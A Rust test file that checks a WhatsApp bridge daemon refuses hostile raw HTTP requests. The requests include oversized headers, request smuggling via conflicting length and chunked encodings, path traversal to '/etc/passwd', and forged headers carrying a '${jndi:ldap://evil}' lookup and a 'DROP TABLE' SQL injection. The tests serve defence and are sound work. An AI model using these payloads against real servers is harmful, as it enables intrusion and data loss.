//! Against the listeners: heads, bodies, lengths, paths and methods that no honest client sends.

use super::stage::{KIOSK, SECOND_TOKEN};
use super::{Http, Stage};
use crate::support::world::{WEBHOOK_SECRET, WEBHOOK_TOKEN, message_id, text_event};
use wabridge_testkit::daemon::KEY_ID;

/// A request with these header lines, and a body of this announced length.
fn request(line: &str, headers: &str, body: &str) -> Vec<u8> {
    format!("{line} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n{headers}\r\n{body}")
        .into_bytes()
}

fn post(path: &str, headers: &str, body: &str) -> Vec<u8> {
    request(&format!("POST {path}"), headers, body)
}

fn webhook() -> String {
    format!("/whatsapp/webhook/whapi/{WEBHOOK_TOKEN}")
}

/// Both listeners refuse the head, whatever is behind it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn heads() {
    let mut stage = Stage::start("heads", &[]).await;
    let long = "x".repeat(200_000);
    let many: String = (0..5000).map(|n| format!("X-H-{n}: 1\r\n")).collect();
    let hundred_one: String = (0..120).map(|n| format!("X-H-{n}: 1\r\n")).collect();
    let deep = format!("/whatsapp/webhook/whapi/{}", "a/".repeat(5000));
    let cases: Vec<(&str, Vec<u8>, &[&str])> = vec![
        (
            "a header of 200 kB",
            post(&webhook(), &format!("X-Long: {long}\r\n"), ""),
            &["431", "closed"],
        ),
        ("5,000 headers", post(&webhook(), &many, ""), &["431"]),
        ("120 headers", post(&webhook(), &hundred_one, ""), &["431"]),
        ("an address of 200 kB", post(&format!("/{long}"), "", ""), &["414", "431", "closed"]),
        ("an address of 9 kB", post(&format!("/{}", "x".repeat(9000)), "", ""), &["414"]),
        ("5,000 folders", post(&deep, "", ""), &["414"]),
        ("a query of 9 kB", post(&format!("/rpc?{}", "x".repeat(9000)), "", ""), &["414"]),
        (
            "two different lengths",
            post(&webhook(), "Content-Length: 2\r\nContent-Length: 3\r\n", "{}"),
            &["400"],
        ),
        ("a negative length", post(&webhook(), "Content-Length: -1\r\n", "{}"), &["400"]),
        ("a length with a sign", post(&webhook(), "Content-Length: +2\r\n", "{}"), &["400"]),
        ("a length in two words", post(&webhook(), "Content-Length: 2 2\r\n", "{}"), &["400"]),
        (
            "a length beyond 64 bits",
            post(&webhook(), "Content-Length: 99999999999999999999\r\n", "{}"),
            &["400"],
        ),
        (
            "an unknown transfer coding",
            post(&webhook(), "Transfer-Encoding: xchunked\r\n", "0\r\n\r\n"),
            &["400"],
        ),
        (
            "chunked is not the last coding",
            post(&webhook(), "Transfer-Encoding: chunked, identity\r\n", "0\r\n\r\n"),
            &["400"],
        ),
        ("a folded header", post(&webhook(), "X-A: 1\r\n 2\r\n", ""), &["400"]),
        ("a space before the colon", post(&webhook(), "Content-Length : 2\r\n", "{}"), &["400"]),
        ("a NUL in a header", post(&webhook(), "X-A: a\0b\r\n", ""), &["400"]),
        ("a bare CR in a header", post(&webhook(), "X-A: a\rX-B: b\r\n", ""), &["400"]),
        ("a header without a name", post(&webhook(), ": 1\r\n", ""), &["400"]),
        (
            "HTTP/2 by its preface",
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(),
            &["400", "closed", "505"],
        ),
        ("HTTP/9", b"GET / HTTP/9.9\r\n\r\n".to_vec(), &["400", "505"]),
        (
            "no HTTP at all",
            b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 hello over TLS \r\n\r\n".to_vec(),
            &["400", "closed"],
        ),
        ("a bus of another protocol", b"SSH-2.0-OpenSSH_9.9\r\n\r\n".to_vec(), &["400"]),
    ];
    for (name, bytes, wanted) in &cases {
        stage
            .case(&format!("{name}, public"), wanted, &[], async |s| s.public().say(&[bytes]).await)
            .await;
        stage
            .case(&format!("{name}, private"), wanted, &[], async |s| {
                s.private().say(&[bytes]).await
            })
            .await;
    }
    stage.end(40);
}

/// Bodies that lie about their length, and clients that take their time.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bodies() {
    let mut stage = Stage::start("bodies", &[]).await;
    let bearer = format!("Authorization: Bearer {WEBHOOK_SECRET}\r\n");
    let signed = || {
        format!(
            "Authorization: {}\r\nContent-Type: application/json\r\n",
            Http::signed(KEY_ID, "POST", "/rpc", b"{}")
        )
    };
    let chunked = format!("{bearer}Transfer-Encoding: chunked\r\n");
    let public: Vec<(&str, Vec<u8>, &[&str])> = vec![
        (
            "a body of 5 MiB, announced",
            post(&webhook(), &format!("{bearer}Content-Length: 5242880\r\n"), "{"),
            &["413"],
        ),
        (
            "a body of 9 EB, announced",
            post(&webhook(), &format!("{bearer}Content-Length: 9223372036854775807\r\n"), "{"),
            &["413"],
        ),
        (
            "a chunk of 2^64 bytes",
            post(&webhook(), &chunked, "FFFFFFFFFFFFFFFFF\r\nx"),
            &["400", "closed"],
        ),
        ("a chunk of -1 bytes", post(&webhook(), &chunked, "-1\r\nx"), &["400", "closed"]),
        (
            "a chunk length that is no number",
            post(&webhook(), &chunked, "zz\r\nx"),
            &["400", "closed"],
        ),
        (
            "a chunk longer than it says",
            post(&webhook(), &chunked, "1\r\nxyz\r\n0\r\n\r\n"),
            &["400", "closed"],
        ),
        (
            "a chunk extension of 100 kB",
            post(&webhook(), &chunked, &format!("1;{}\r\nx\r\n0\r\n\r\n", "x".repeat(100_000))),
            &["400", "closed"],
        ),
        (
            "5,000 trailers",
            post(&webhook(), &chunked, &format!("0\r\n{}\r\n", "X-T: 1\r\n".repeat(5000))),
            &["400", "closed"],
        ),
        (
            "a body cut off",
            post(&webhook(), &format!("{bearer}Content-Length: 50\r\n"), "{"),
            &["408"],
        ),
        (
            "a head cut off",
            b"POST /whatsapp/webhook/whapi HTTP/1.1\r\nHost: x\r\n".to_vec(),
            &["closed", "408"],
        ),
        (
            "only an Expect",
            post(
                &webhook(),
                &format!("{bearer}Content-Length: 50\r\nExpect: 100-continue\r\n"),
                "",
            ),
            &["100,408", "408", "417"],
        ),
        (
            "a body where none is read",
            request("GET /whatsapp/health", "Content-Length: 20\r\n", "POST /rpc HTTP/1.1\r\n"),
            &["200"],
        ),
    ];
    for (name, bytes, wanted) in &public {
        stage.case(name, wanted, &[], async |s| s.public().say(&[bytes]).await).await;
    }
    stage
        .case("a call of 2 MiB, announced", &["413"], &[], async |s| {
            s.private()
                .say(&[&post("/rpc", &format!("{}Content-Length: 2097152\r\n", signed()), "{")])
                .await
        })
        .await;
    stage
        .case("a call of 2 MiB in chunks", &["413"], &[], async |s| {
            let chunk = format!("10000\r\n{}\r\n", "x".repeat(65536));
            let body = format!("{}0\r\n\r\n", chunk.repeat(32));
            s.private()
                .say(&[&post(
                    "/rpc",
                    &format!("{}Transfer-Encoding: chunked\r\n", signed()),
                    &body,
                )])
                .await
        })
        .await;
    stage
        .case("a call whose body does not come", &["408"], &[], async |s| {
            s.private()
                .say(&[&post("/rpc", &format!("{}Content-Length: 2\r\n", signed()), "{")])
                .await
        })
        .await;
    // With both a length and chunks: the chunks count, and the connection ends, so that nothing hides behind.
    stage
        .case("a request hidden behind a length", &["401"], &[], async |s| {
            let hidden = "GET /whatsapp/health HTTP/1.1\r\nHost: x\r\n\r\n";
            let body = format!("0\r\n\r\n{hidden}");
            let head = format!("Content-Length: {}\r\nTransfer-Encoding: chunked\r\n", body.len());
            let bytes = format!("POST {} HTTP/1.1\r\nHost: x\r\n{head}\r\n{body}", webhook());
            s.public().say(&[bytes.as_bytes()]).await
        })
        .await;
    stage
        .case("a request hidden behind chunks", &["401"], &[], async |s| {
            let hidden = "GET /whatsapp/health HTTP/1.1\r\nHost: x\r\n\r\n";
            let bytes = format!(
                "POST {} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n{hidden}",
                webhook()
            );
            s.public().say(&[bytes.as_bytes()]).await
        })
        .await;
    // Each of one connection is judged for itself.
    stage
        .case("good and bad ones in one connection", &["401,200,401,404,200"], &[
                "wabridge.journal", "wabridge.journal_pending", "public.whatsapp_quarantine"], async |s| {
            let good = request("GET /whatsapp/health", "", "");
            let one = |bearer: &str, length: usize, body: &str| {
                format!("POST {} HTTP/1.1\r\nHost: x\r\n{bearer}Content-Length: {length}\r\n\r\n{body}", webhook()).into_bytes()
            };
            let mut all = one("", 2, "{}");
            all.extend(one(&bearer, 2, "{}"));
            all.extend(one("Authorization: Bearer wrong\r\n", 2, "{}"));
            all.extend(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n");
            all.extend(good);
            s.public().say(&[&all]).await
        })
        .await;
    stage.end(18);
}

/// Doors that are not where somebody knocks.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn paths() {
    let mut stage = Stage::start("paths", &[]).await;
    let token = WEBHOOK_TOKEN;
    let bearer = format!("Authorization: Bearer {WEBHOOK_SECRET}\r\nContent-Length: 2\r\n");
    for path in [
        "/rpc".to_owned(),
        "/metrics".to_owned(),
        "/media/1".to_owned(),
        "/health/ready".to_owned(),
        "//rpc".to_owned(),
        "/whatsapp/../rpc".to_owned(),
        "/whatsapp/webhook/%2e%2e/%2e%2e/rpc".to_owned(),
        format!("/whatsapp//webhook/whapi/{token}"),
        format!("/WHATSAPP/WEBHOOK/whapi/{token}"),
        format!("/whatsapp/webhook/WHAPI/{token}"),
        format!("/whatsapp/webhook/whapi%00/{token}"),
        format!("/whatsapp/webhook/../webhook/whapi/{token}"),
        "/whatsapp/webhook/nobody/x".to_owned(),
        "http://127.0.0.1/rpc".to_owned(),
    ] {
        let bytes = post(&path, &bearer, "{}");
        stage
            .case(&format!("public: {path}"), &["404"], &[], async |s| {
                s.public().say(&[&bytes]).await
            })
            .await;
    }
    for path in [
        format!("/whatsapp/webhook/whapi/{token}%00"),
        format!("/whatsapp/webhook/whapi/{token}%2f"),
        format!("/whatsapp/webhook/whapi/%2e%2e%2f{token}"),
        format!("/whatsapp/webhook/whapi/{}", &token[..token.len() - 1]),
        format!("/whatsapp/webhook/whapi/{token}0"),
        format!("/whatsapp/webhook/whapi/{}", token.to_uppercase()),
        format!("/whatsapp/webhook/whapi/{SECOND_TOKEN}"),
        format!("/whatsapp/webhook/meta/{token}"),
        "/whatsapp/webhook/whapi/%".to_owned(),
        "/whatsapp/webhook/whapi/%ff%fe".to_owned(),
        "/whatsapp/webhook/whapi/..".to_owned(),
    ] {
        let bytes = post(&path, &bearer, "{}");
        stage
            .case(&format!("public: {path}"), &["401", "400"], &[], async |s| {
                s.public().say(&[&bytes]).await
            })
            .await;
    }
    for (line, headers, wanted) in [
        ("TRACE /whatsapp/health", "", &["405"][..]),
        ("OPTIONS /whatsapp/webhook/whapi/x", "Origin: https://evil.example\r\n", &["405"]),
        ("CONNECT 127.0.0.1:5432", "", &["404", "405", "400"]),
        ("DELETE /whatsapp/health", "", &["405"]),
        ("BREW /whatsapp/webhook/whapi/x", "", &["405"]),
        (
            "GET /whatsapp/health",
            "Upgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n",
            &["200"],
        ),
        ("GET /whatsapp/health", "Host: evil.example\r\n", &["200", "400"]),
    ] {
        let bytes = request(line, headers, "");
        stage
            .case(&format!("public: {line}"), wanted, &[], async |s| {
                s.public().say(&[&bytes]).await
            })
            .await;
    }
    let unsigned = "Content-Length: 2\r\nContent-Type: application/json\r\n";
    for (line, headers, wanted) in [
        (format!("POST {}", webhook()), bearer.as_str(), &["404"][..]),
        ("TRACE /rpc".to_owned(), "", &["405"]),
        ("CONNECT 127.0.0.1:5432".to_owned(), "", &["404", "405", "400"]),
        ("GET /rpc".to_owned(), "Upgrade: websocket\r\n", &["405"]),
        ("GET /metrics".to_owned(), "", &["401"]),
        ("GET /metrics".to_owned(), "Authorization: Bearer wrong\r\n", &["401"]),
        ("GET /media/..%2f..%2fetc%2fpasswd".to_owned(), "", &["401"]),
        ("POST /rpc/".to_owned(), unsigned, &["404"]),
        ("POST /rpc%00".to_owned(), unsigned, &["404"]),
        ("POST //rpc".to_owned(), unsigned, &["404"]),
        ("POST /health/../rpc".to_owned(), unsigned, &["404"]),
        ("POST /rpc".to_owned(), unsigned, &["401"]),
    ] {
        let body = if headers.contains("Content-Length") { "{}" } else { "" };
        let bytes = request(&line, headers, body);
        stage
            .case(&format!("private: {line}"), wanted, &[], async |s| {
                s.private().say(&[&bytes]).await
            })
            .await;
    }
    for path in [
        "/media/..%2f..%2fetc%2fpasswd",
        "/media/-1",
        "/media/1%00",
        "/media/99999999999999999999",
        "/media/9001?uid=5",
        "/media/9001?uid=-1",
    ] {
        stage
            .case(&format!("private, signed: GET {path}"), &["404", "403"], &[], async |s| {
                let header =
                    format!("Authorization: {}\r\n", Http::signed(KEY_ID, "GET", path, b""));
                s.private().say(&[&request(&format!("GET {path}"), &header, "")]).await
            })
            .await;
    }
    stage
        .case("the kiosk's key for a file of another user", &["403"], &[], async |s| {
            let header = format!(
                "Authorization: {}\r\n",
                Http::signed(KIOSK, "GET", "/media/9001?uid=5", b"")
            );
            s.private().say(&[&request("GET /media/9001?uid=5", &header, "")]).await
        })
        .await;
    stage.end(50);
}

/// Who knocks too often is known by his own address, whatever he writes of others; nothing of it is logged as it is.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn made_up_addresses() {
    let mut stage =
        Stage::start("addresses", &[("WABRIDGE__PUBLIC__REFUSALS_PER_MINUTE", "3")]).await;
    stage
        .case("X-Forwarded-For against the limit", &["429"], &[], async |s| {
            let mut last = String::new();
            // More than twice the limit, should a minute begin meanwhile.
            for n in 0..9 {
                let headers = format!("X-Forwarded-For: 203.0.113.{n}\r\nX-Real-IP: 203.0.113.{n}\r\nForwarded: for=203.0.113.{n}\r\nContent-Length: 2\r\n");
                let said = s.public().say(&[&post(&webhook(), &headers, "{}")]).await;
                if last != "429" {
                    last = said;
                }
            }
            last
        })
        .await;
    let body = text_event(&message_id(1), "447700900123", "hi").to_string();
    let headers = |more: &str| {
        format!(
            "Authorization: Bearer {WEBHOOK_SECRET}\r\nContent-Length: {}\r\n{more}",
            body.len()
        )
    };
    let kept = &[
        "wabridge.journal",
        "wabridge.journal_pending",
        "public.whatsapp_message",
        "public.whatsapp_contact",
        "public.whatsapp_chat",
        "public.whatsapp_event",
        "public.bus_bus",
        "wabridge.identity",
        "wabridge.contact_fact",
        "wabridge.notice",
        "wabridge.chat_fact",
    ];
    stage
        .case("made-up ids, programs and addresses in the head of a good webhook", &["200"], kept, async |s| {
            let more = "User-Agent: x FORGED ${jndi:ldap://evil}\r\nX-Request-Id: FORGED\r\nX-Forwarded-For: '; DROP TABLE whatsapp_message; --\r\n";
            s.public().say(&[&post(&webhook(), &headers(more), &body)]).await
        })
        .await;
    let stored = "SELECT count(*) FROM wabridge.journal WHERE address = '127.0.0.1' AND headers->>'user-agent' LIKE '%FORGED%'
                  AND request_id NOT LIKE '%FORGED%'";
    assert_eq!(stage.world.database.count(stored).await, 1);
    stage.end(2);
}
